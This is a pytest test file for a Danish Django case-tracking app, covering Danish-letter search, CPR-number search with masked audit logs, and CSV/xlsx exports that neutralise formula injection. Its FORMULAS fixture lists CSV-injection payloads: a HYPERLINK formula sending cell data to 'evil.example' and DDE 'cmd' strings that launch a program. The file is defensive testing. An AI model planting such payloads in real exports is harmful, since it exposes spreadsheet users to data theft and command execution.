"""Search in every alphabet and with or without the CPR hyphen; every CSV and Excel export through one writer that
neutralises formula-like cells (OWASP CSV injection), writes Danish Excel's dialect beside RFC 4180, and types xlsx
cells. Run on SQLite and PostgreSQL alike (``DATABASE_URL``)."""

from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from common import exports
from outcomes import services as outcome_services
from tests import factories
from tracker.models import AuditEntry

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# --- Search -------------------------------------------------------------------------------------------------------


@pytest.fixture
def danish_names(world):
    for name in ("Åse Ørum", "Søren Kjær", "Kjær Æblehave", "Élodie Brønd", "Kjærsgaard", "Ib Kjær"):
        factories.CourseFactory(unit=world.unit_a, citizen=factories.CitizenFactory(name=name))
    return world


def search(client, q: str) -> set[str]:
    response = client.get(reverse("tracker:citizen_list"), {"q": q})
    assert response.status_code == 200
    return {row.record.citizen.name for row in response.context["table"].rows}


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("åse", {"Åse Ørum"}),
        ("ÅSE", {"Åse Ørum"}),
        ("Åse", {"Åse Ørum"}),
        ("ørum", {"Åse Ørum"}),
        ("kjær", {"Søren Kjær", "Kjær Æblehave", "Kjærsgaard", "Ib Kjær"}),
        ("KJÆR", {"Søren Kjær", "Kjær Æblehave", "Kjærsgaard", "Ib Kjær"}),
        ("æblehave", {"Kjær Æblehave"}),
        ("élodie", {"Élodie Brønd"}),
        ("ÉLODIE", {"Élodie Brønd"}),
        ("BRØND", {"Élodie Brønd"}),
    ],
)
def test_search_ignores_case_in_danish_letters(client, danish_names, query, expected):
    client.force_login(danish_names.alice)
    assert search(client, query) == expected


@pytest.mark.parametrize("query", ["010190-1234", "0101901234", "010190", "010190 1234"])
def test_search_finds_a_cpr_number_with_or_without_the_hyphen(client, world, query):
    client.force_login(world.alice)
    assert search(client, query) == {"Anna Andersen"}


def test_the_partner_register_search_ignores_case_in_danish_letters(client, world):
    factories.PartnerFactory(name="Åbent Værested Øst", sector=factories.sector("peer"))
    client.force_login(world.alice)
    response = client.get(reverse("tracker:partner_list"), {"q": "åbent værested øst"})
    assert [row.record.name for row in response.context["table"].rows] == ["Åbent Værested Øst"]


def test_a_cpr_search_is_logged_masked_with_a_keyed_hash(client, world):
    client.force_login(world.alice)
    client.get(reverse("tracker:citizen_list"), {"q": "010190-1234"})
    entry = AuditEntry.objects.get(action="search")
    assert entry.detail["criteria"]["q"]["cpr_masked"] == "010190-xxxx"
    assert "1234" not in str(entry.detail)
    # The keyed hash finds every search for the same number, whichever way it was typed.
    client.get(reverse("tracker:citizen_list"), {"q": "0101901234"})
    hashes = {e.detail["criteria"]["q"]["cpr_hash"] for e in AuditEntry.objects.filter(action="search")}
    assert len(hashes) == 1


# --- The writer ---------------------------------------------------------------------------------------------------


def test_the_writer_neutralises_every_formula_prefix_and_keeps_numbers_and_dates():
    rows = [["navn", "tal", "dato"], *[[text, -3, datetime.date(2026, 1, 2)] for text in FORMULAS]]
    danish = exports.write_csv(rows, fmt=exports.CSV_EXCEL)
    assert danish.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(io.StringIO(danish.decode("utf-8-sig")), delimiter=";"))
    assert parsed[0] == ["navn", "tal", "dato"]
    for (name, number, date), original in zip(parsed[1:], FORMULAS, strict=True):
        assert name == "'" + original  # neutralised, and otherwise exactly what was typed
        assert (number, date) == ("-3", "2026-01-02")  # a negative number is a number, not a formula
    plain = exports.write_csv(rows, fmt=exports.CSV)
    assert not plain.startswith(b"\xef\xbb\xbf") and b"\r\n" in plain
    assert list(csv.reader(io.StringIO(plain.decode())))[1][0] == "'" + FORMULAS[0]
    assert exports.csv_cell(2.5, decimal_comma=True) == "2,5" and exports.csv_cell(2.5, decimal_comma=False) == "2.5"


def test_the_xlsx_holds_text_not_formulas_and_typed_numbers_and_dates():
    rows = [["navn", "tal", "dato"], *[[text, 12.5, datetime.date(2026, 1, 2)] for text in FORMULAS]]
    book = openpyxl.load_workbook(io.BytesIO(exports.write_xlsx(rows, title="t")))
    sheet = book.active
    for r, original in enumerate(FORMULAS, start=2):
        cell = sheet.cell(row=r, column=1)
        # XML stores a carriage return as a line feed: the text is otherwise exactly what was typed.
        assert cell.data_type == "s" and cell.value == "'" + original.replace("\r", "\n")
        assert sheet.cell(row=r, column=2).value == 12.5 and sheet.cell(row=r, column=2).data_type == "n"
        assert sheet.cell(row=r, column=3).value == datetime.datetime(2026, 1, 2)
        assert sheet.cell(row=r, column=3).is_date


# --- Every export: a file of formula-like names round-trips as text -----------------------------------------------


@pytest.fixture
def formula_citizens(world):
    """Citizens of unit A named like formulas, each with a WHO-5 measurement (so they appear in every list)."""
    today = timezone.localdate()
    for name in FORMULAS:
        citizen = factories.CitizenFactory(name=name)
        course = factories.CourseFactory(unit=world.unit_a, citizen=citizen, start=today - datetime.timedelta(days=400))
        outcome_services.measurement_record(
            course=course,
            instrument=factories.who5(),
            answers={"happy": 1, "calm": 1, "active": 1, "rested": 1, "interest": 1},
            date=today - datetime.timedelta(days=300),
            informer="citizen",
            recorded_by=world.alice,
        )
    return world


def names_in(content: bytes, fmt: str) -> list:
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value  # no formula anywhere
        # XML stores a carriage return as a line feed.
        return [(row[0] or "").replace("\n", "\r") for row in sheet.iter_rows(values_only=True)]
    if fmt == "csv-excel":
        assert content.startswith(b"\xef\xbb\xbf")
        text = content.decode("utf-8-sig")
        assert text.splitlines()[0].count(";") >= 3
        return [row[0] for row in csv.reader(io.StringIO(text), delimiter=";")]
    return [row[0] for row in csv.reader(io.StringIO(content.decode()))]


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_the_citizen_list_export_writes_formula_names_as_text(client, formula_citizens, fmt):
    client.force_login(formula_citizens.alice)
    response = client.get(reverse("tracker:citizen_list"), {"_export": fmt})
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    names = names_in(response.content, fmt)
    for original in FORMULAS:
        assert "'" + original in names, original
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        header = [c.value for c in sheet[1]]
        started = header.index("Forløb startet")
        assert isinstance(sheet.cell(row=2, column=started + 1).value, datetime.datetime)
        who5 = header.index("Seneste WHO-5")
        assert any(isinstance(sheet.cell(row=r, column=who5 + 1).value, int) for r in range(2, sheet.max_row + 1))


@pytest.mark.parametrize("fmt", exports.FORMATS)
def test_the_leaders_follow_up_list_export_writes_formula_names_as_text(client, formula_citizens, fmt):
    client.force_login(formula_citizens.lena)
    response = client.get(
        reverse("dashboards:unit_dashboard"), {"unit": formula_citizens.unit_a.pk, "_export": fmt, "table": "follow_up"}
    )
    assert response.status_code == 200, response.content[:500]
    assert "no-store" in response["Cache-Control"]
    names = names_in(response.content, fmt)
    for original in FORMULAS:
        assert "'" + original in names, original
